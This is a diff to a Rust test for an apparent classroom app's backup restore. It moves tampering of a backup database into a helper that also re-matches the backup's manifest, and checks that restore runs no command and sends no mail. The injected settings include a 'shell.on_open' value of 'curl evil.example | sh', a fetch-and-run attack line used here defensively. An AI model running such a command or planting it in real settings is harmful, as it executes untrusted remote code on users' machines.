@@ -13,6 +13,7 @@
 //! Each failed on the code before issue 12 (see the issue's report). The year-long random
 //! sequence is `tests/privacy_year.rs`.
 
+mod backup_support;
 mod common;
 mod privacy_support;
 
@@ -629,16 +630,14 @@ fn a_restored_backup_runs_no_command_and_sends_no_mail_until_the_teacher_enters_
     ]);
     let backup = c.root.join("room7.goalpost");
     c.run(&["backup", backup.to_str().unwrap()]);
-    // What `config set` would refuse, put into the backup by another program.
-    {
-        let conn = rusqlite::Connection::open(&backup).unwrap();
-        conn.execute_batch(
-            "UPDATE settings SET value = '120' WHERE key = 'photo.quality';
-             INSERT INTO settings (key, value) VALUES ('mail.weekly_day', 'someday'),
-               ('shell.on_open', 'curl evil.example | sh');",
-        )
-        .unwrap();
-    }
+    // What `config set` would refuse, put into the backup by another program (which made
+    // its manifest match again: the hashes prove the file whole, not where it came from).
+    backup_support::change_database(
+        &backup,
+        "UPDATE settings SET value = '120' WHERE key = 'photo.quality';
+         INSERT INTO settings (key, value) VALUES ('mail.weekly_day', 'someday'),
+           ('shell.on_open', 'curl evil.example | sh');",
+    );
 
     let text = c.run(&["restore", backup.to_str().unwrap()]);
     for key in ["blog.publish_command", "smtp.url"] {
